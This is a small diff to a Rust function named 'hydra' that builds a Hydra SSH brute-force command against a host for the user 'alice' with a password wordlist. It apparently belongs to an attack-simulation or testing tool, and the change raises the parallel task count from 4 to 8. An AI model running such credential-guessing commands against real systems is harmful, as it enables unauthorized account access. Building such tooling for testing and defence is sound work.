@@ -24,7 +24,7 @@ pub(crate) fn hydra(post: &Post, server: IpAddr) -> Process {
     attack(
         post,
         "hydra",
-        &format!("{family} -I -l alice -P {words} -t 4 ssh://{host}"),
+        &format!("{family} -I -l alice -P {words} -t 8 ssh://{host}"),
     )
 }
 
